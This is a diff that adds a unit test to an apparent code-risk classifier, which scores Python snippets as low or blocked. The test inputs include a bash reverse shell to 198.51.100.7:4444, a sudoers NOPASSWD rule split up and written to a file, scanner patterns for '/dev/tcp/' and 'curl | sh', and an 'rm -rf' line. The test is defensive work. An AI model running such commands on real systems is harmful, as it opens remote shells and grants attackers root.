@@ -157,3 +157,19 @@ TEST(AssessIter, EverythingInTheHomeDirectoryIsTheHomeDirectory) {
             RiskLevel::blocked);
   EXPECT_EQ(level("import os\nos.system('rm -rf ~/Downloads/tmp')\n"), RiskLevel::medium);
 }
+
+TEST(AssessIter, ACommandLineCountsWhereSomethingRunsWritesOrSendsIt) {
+  // A scanner's signatures applied to the files it reads: words (acts_on: reading is no actor).
+  EXPECT_EQ(level("import re, sys\nPATTERNS = [r'/dev/tcp/', r'curl .*\\| *sh']\nfor path in sys.argv[1:]:\n"
+                  "    text = open(path).read()\n    for pat in PATTERNS:\n        if re.search(pat, text):\n"
+                  "            print(path, pat)\n"),
+            RiskLevel::low);
+  // The same string where the file runs a shell, or writes it somewhere.
+  EXPECT_EQ(level("import subprocess\nCMD = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n"
+                  "subprocess.Popen(['bash', '-c', CMD])\n"),
+            RiskLevel::blocked);
+  // os.open with write flags is a write: a NOPASSWD rule put together and written there.
+  EXPECT_EQ(level("import os\ntext = 'bob ALL=(ALL) ' + 'NOPASS' + 'WD: ALL'\n"
+                  "fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT, 0o440)\nos.write(fd, text.encode())\n"),
+            RiskLevel::blocked);
+}
